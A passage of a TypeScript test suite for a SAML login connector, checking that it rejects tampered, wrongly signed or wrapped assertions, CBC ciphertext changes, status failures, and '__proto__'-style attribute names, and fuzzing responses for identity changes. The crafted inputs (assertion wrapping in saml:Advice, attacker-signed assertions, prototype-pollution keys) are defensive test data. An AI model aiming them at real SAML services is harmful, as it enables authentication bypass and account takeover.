    'a ciphertext with a stump of a tag': {
      recipe: { encrypt: true },
      spoil: (xml) => xml.replace(/(.*<(?:\w+:)?CipherValue[^>]*>)[^<]+/s, '$1QUJDREVGR0hJSktMTU5P'),
    },
    'an unsigned assertion inside an unsigned response': { recipe: { signs: 'nothing', encrypt: true } },
    'an assertion inside that was signed by another': { recipe: { signing: keys.attacker, encrypt: true } },
    'two assertions inside': {
      recipe: {
        encrypt: true,
        inside: (text) =>
          text.replace(
            '<saml:AuthnStatement',
            `<saml:Advice>${text.replaceAll('_assertion', '_evil')}</saml:Advice><saml:AuthnStatement`,
          ),
      },
    },
    'a reference to a key elsewhere': {
      recipe: { encrypt: true },
      spoil: (xml) =>
        xml.replace(
          /(<(?:\w+:)?EncryptedData[\s\S]*?<KeyInfo[^>]*>)/,
          '$1<RetrievalMethod xmlns="http://www.w3.org/2000/09/xmldsig#" URI="#x"/>',
        ),
    },
  });

  it('has one answer to every change of a CBC ciphertext, so that it tells nothing about the plaintext', async () => {
    const record = { allowCbc: true };
    const plain = await answer({ encrypt: cbc, signs: 'assertion' });
    const details = new Set<string>();
    for (const at of [0, 15, 16, 40, -17, -16, -1]) {
      // The response is signed after the change, as nobody but the provider could do it: only the inside is wrong.
      const changed = signElement(cipher(plain, at), { ...keys.provider, id: '_response' });
      const outcome = await judge(changed, { record });
      details.add('detail' in outcome ? `${outcome.kind} ${outcome.detail}` : 'authenticated');
    }
    expect([...details]).to.deep.equal(['invalid decryption: cannot be read']);
  });
});

describe('connectors/saml: failures, as the provider says them', () => {
  const failed = (status: string, subStatus?: string, detail = ''): Case => ({
    recipe: {
      signs: 'nothing',
      around: (text) =>
        text
          .replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, '')
          .replace('</samlp:Status>', `${detail}</samlp:Status>`),
      response: {
        status: `urn:oasis:names:tc:SAML:2.0:status:${status}`,
        ...(subStatus && { subStatus: `urn:oasis:names:tc:SAML:2.0:status:${subStatus}` }),
      },
    },
  });
  const detail = (word: string) =>
    `<samlp:StatusDetail><x:StatusValue xmlns:x="urn:x">${word}</x:StatusValue></samlp:StatusDetail>`;
  const table: [string, Case][] = [
    ['not-verified', failed('Responder', 'AuthnFailed')],
    ['no-context', failed('Responder', 'NoAuthnContext')],
    ['cancelled', failed('Responder', 'NoAuthnContext', detail('authn-cancel'))],
    ['pending', failed('Responder', 'NoAuthnContext', detail('loa-pending'))],
    ['uplift-failed', failed('Responder', 'NoAuthnContext', detail('uplift-failed'))],
    ['no-context', failed('Responder', 'NoPassive')],
    ['rejected', failed('Requester', 'RequestDenied')],
    ['rejected', failed('VersionMismatch')],
    ['unavailable', failed('Responder')],
    ['rejected', failed('constructor')],
  ];
  for (const [kind, one] of table) {
    it(`ends ${one.recipe?.response?.subStatus ?? one.recipe?.response?.status} in ${kind}`, async () => {
      expect(verdict(await made(one))).to.equal(`${kind}: status`);
    });
  }
  it('takes levelX for a fraud signal and never for a level', async () => {
    const classRef = 'urn:uk:gov:cabinet-office:tc:saml:authn-context:levelX';
    expect((await made({ recipe: { assertion: { classRef } } })).kind).to.equal('fraud');
  });
  refuses('in-response-to', {
    'a failure of another journey': {
      ...failed('Responder'),
      recipe: {
        ...failed('Responder').recipe,
        response: { ...failed('Responder').recipe?.response, inResponseTo: '_other' },
      },
    },
  });
  refuses('structure', {
    'an assertion beside a failure': {
      recipe: { response: { status: 'urn:oasis:names:tc:SAML:2.0:status:Responder' } },
    },
    'a success without an assertion': {
      recipe: { around: (text) => text.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, '') },
    },
  });
});

describe('connectors/saml: names from the wire', () => {
  it('never become keys of an object', async () => {
    const wire = ['__proto__', 'constructor', 'toString'].map((name) => ({ name, values: ['x'] }));
    const outcome = await made({
      recipe: { assertion: { attributes: wire } },
      record: { attributes: ['given_name'], attributeNames: { given_name: ['__proto__'] } },
    });
    if (outcome.kind !== 'authenticated') return expect.fail(outcome.detail);
    expect(outcome.assertion.attributes).to.deep.equal({ given_name: { value: 'x', verified: true } });
    expect(Object.getPrototypeOf(outcome.assertion.attributes)).to.equal(Object.prototype);
  });
});

describe('connectors/saml: any change', () => {
  const person = (outcome: Awaited<ReturnType<typeof judge>>) =>
    outcome.kind === 'authenticated'
      ? JSON.stringify([outcome.assertion.subject, outcome.assertion.attributes])
      : undefined;

  for (const signs of ['assertion', 'response', 'both'] as const) {
    it(`never makes another person of an answer (signed: ${signs})`, async () => {
      const xml = await answer({ signs });
      const honest = person(await judge(xml));
      const elements = [...xml.matchAll(/<(saml|samlp|ds):[A-Za-z]+[^>]*>/g)].map(({ index, 0: tag }) => ({
        index,
        tag,
      }));
      const place = fc.nat(elements.length - 1);
      const change = fc.oneof(
        fc
          .record({ at: fc.nat(xml.length - 1), to: fc.constantFrom('<', '>', '"', '/', 'x', ' ', '&', '=') })
          .map(({ at, to }) => xml.slice(0, at) + to + xml.slice(at + 1)),
        fc.tuple(place, place).map(([from, to]) => {
          const [source, target] = [elements[from], elements[to]];
          if (!source || !target) return xml;
          return xml.slice(0, target.index) + source.tag.replace(/>$/, '/>') + xml.slice(target.index);
        }),
        place.map((from) => {
          const element = elements[from];
          return element ? xml.slice(0, element.index) + xml.slice(element.index + element.tag.length) : xml;
        }),
        fc
          .constantFrom(victim, 'Example', idp, hub, acs, '_assertion', '_response', '1950-01-02')
          .map((word) => xml.replace(word, attacker)),
      );
      await fc.assert(
        fc.asyncProperty(change, async (changed) => {
          const found = person(await judge(changed));
          return found === undefined || found === honest;
        }),
        { numRuns: 300 },
      );
    });
  }
});
